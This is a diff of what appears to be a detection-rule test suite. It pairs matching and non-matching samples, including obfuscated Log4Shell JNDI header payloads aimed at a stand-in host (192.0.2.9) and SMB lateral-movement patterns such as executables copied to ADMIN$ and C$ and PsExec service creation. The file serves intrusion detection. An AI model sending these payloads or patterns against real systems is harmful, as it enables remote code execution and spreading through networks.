@@ -91,7 +91,7 @@ EXPLOITS = [
     ),
     Case(
         9001011, header("X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://192.0.2.9/a}"),
-        header("X-Api-Version", "${${env}://192.0.2.9/a}"),
+        header("X-Api-Version", "${${env:x}ndi:ldap://192.0.2.9/a}"),
     ),
     Case(
         9001011, header("X-Api-Version", "${${lower:j}ndi:ldap://192.0.2.9/a}"),
@@ -200,7 +200,7 @@ SPREADING = [
     ),
     Case(9001202, up(9996, ASK % b"get"), up(9996, ASK % b"put")),
     Case(9001204, admin("ADMIN$", "a\\b.exe"), admin("data", "a\\b.exe")),
-    Case(9001204, admin("C$", "b.dll"), admin("C$", "b.txt"), what="C$"),
+    Case(9001204, admin("C$", "b.exe"), admin("C$", "b.txt"), what="C$"),
     Case(9001205, up(445, smb2_create("PSEXESVC")), up(445, smb2_create("PSEXEC.TXT"))),
     Case(9001206, remote("ADMIN$"), remote("results")),
     Case(
